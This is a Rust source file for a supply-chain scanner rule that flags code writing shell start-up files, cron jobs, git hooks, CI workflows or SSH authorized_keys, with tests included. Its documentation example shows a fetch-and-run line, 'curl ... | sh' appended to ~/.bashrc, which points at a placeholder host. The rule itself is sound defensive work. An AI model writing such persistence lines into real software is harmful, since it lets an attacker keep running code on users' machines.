use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds code that writes places that run code later: shell start-up files
    /// (`.bashrc`, `.zshrc`, `.profile`), cron and launch agents, git hooks,
    /// CI workflow files, `~/.ssh/authorized_keys`. Critical at install; at
    /// run time reported for review (scaffolding and hook tools do this on
    /// request).
    ///
    /// ## Why is this bad?
    /// Writing there survives uninstalling the package: the code runs at every
    /// shell, every commit, every CI run, or lets someone log in.
    ///
    /// ## Example
    /// ```js
    /// fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl -s https://x.invalid | sh\n');
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1546.004 (Unix Shell Configuration Modification), T1053.003 (Cron).
    StartupFileWrite {
        id: "persistence/startup-file-write",
        severity: Critical,
        status: Stable,
        summary: "The code writes shell start-up files, cron, git hooks, CI workflows or SSH keys",
    }
}

impl Rule for StartupFileWrite {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for w in &ctx.facts.files_written {
            let what = match w.category.as_str() {
                "shell-rc" => "a shell start-up file",
                "crontab" => "a scheduled-task location",
                "git-hook" => "a git hook",
                "ci-workflow" => "a CI workflow",
                "ssh" if w.path.contains("authorized_keys") => "SSH authorized keys",
                _ => continue,
            };
            let severity = if w.at.install_time {
                Severity::Critical
            } else {
                Severity::Medium
            };
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        severity,
                        format!("writes {what}: `{}`", w.path),
                    ),
                    &w.at.location,
                )
                .at_install_time(w.at.install_time)
                .with_capability("persistence"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&StartupFileWrite::META).test(
            &[
                Case::InstallJs("const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.bashrc', 'x');"),
                Case::Js("fs.writeFileSync('.github/workflows/x.yml', body);"),
            ],
            &[Case::Js("fs.readFileSync(os.homedir() + '/.bashrc');"), Case::InstallJs("fs.writeFileSync('lib/hooks.js', 'x');")],
        );
    }
}
